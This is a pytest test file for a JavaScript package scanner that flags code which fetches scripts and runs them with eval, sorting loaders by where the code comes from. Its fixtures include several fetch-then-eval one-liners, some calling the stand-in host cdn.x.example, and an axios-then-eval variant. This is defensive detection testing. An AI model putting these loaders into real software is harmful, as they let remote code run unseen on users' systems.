import pytest

from picketline.packages import inspect
from picketline.packages.inspect import loaders


def _value(script: str) -> str:
    marks = inspect.deeper(script.encode(), "a.js")
    return next((mark.value for mark in marks if mark.name == "fetches-and-runs"), "")


@pytest.mark.parametrize(
    ("address", "value"),
    [
        ('"/modules/" + name + ".js"', loaders.OWN),
        ("new URL(name, document.baseURI)", loaders.OWN),
        ('new URL(name + ".js", location.href)', loaders.OWN),
        ("name", loaders.GIVEN),
        ('name + "?t=" + Date.now()', loaders.GIVEN),
        ('"https://cdn.x.example/" + name', ""),
        ("process.env.WHERE", ""),
        ("atob(name)", ""),
        ('["https:", "", "x.example"].join("/")', ""),
        ('require("./where")', ""),
    ],
)
def test_where_code_is_loaded_from(address: str, value: str) -> None:
    """From the page's own origin, from an address that is given, or from anywhere else."""
    script = f"const load = (name) => fetch({address}).then((r) => r.text()).then((t) => eval(t));"
    assert _value(script) == f"fetch {value}".strip()


def test_a_host_anywhere_in_the_script_counts() -> None:
    """The address that a loader is given may stand beside it; names of formats are no hosts."""
    loader = "function load(u) { return fetch(u).then((r) => r.text()).then(eval); }"
    assert _value(loader) == f"fetch {loaders.GIVEN}"
    assert _value(f'{loader} const ns = "http://www.w3.org/2000/svg";') == f"fetch {loaders.GIVEN}"
    assert _value(f'{loader} load("https://cdn.x.example/p.js");') == "fetch"


def test_a_client_of_node_is_no_loader_of_a_page() -> None:
    """What a library for servers fetches and runs stays what it is."""
    script = (
        'const axios = require("axios"); exports.a = (u) => axios.get(u).then((r) => eval(r.data));'
    )
    assert _value(script) == "axios.get"
